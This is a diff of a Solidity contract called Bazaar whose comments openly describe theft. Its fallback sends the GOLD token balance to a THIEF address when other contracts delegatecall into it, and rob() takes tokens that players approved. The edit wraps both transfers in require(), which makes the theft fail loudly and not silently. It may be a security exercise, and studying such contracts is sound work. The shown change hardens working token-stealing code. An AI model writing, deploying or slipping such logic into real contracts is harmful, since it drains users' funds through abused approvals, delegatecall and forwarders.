@@ -49,7 +49,7 @@ contract Bazaar {
 
     /// @notice Any other selector is play, and theft in the name of whoever delegates here.
     fallback() external payable {
-        if (address(this) != SELF) GOLD.transfer(THIEF, GOLD.balanceOf(address(this)));
+        if (address(this) != SELF) require(GOLD.transfer(THIEF, GOLD.balanceOf(address(this))));
         else ++playsOf[msg.sender];
     }
 
@@ -95,7 +95,7 @@ contract Bazaar {
 
     /// @notice Takes what the player approved earlier.
     function rob(address player, uint256 amount) external {
-        GOLD.transferFrom(player, THIEF, amount);
+        require(GOLD.transferFrom(player, THIEF, amount));
     }
 
     /// @notice Counts for whom the trusted forwarder names behind the arguments; the thief is that forwarder.
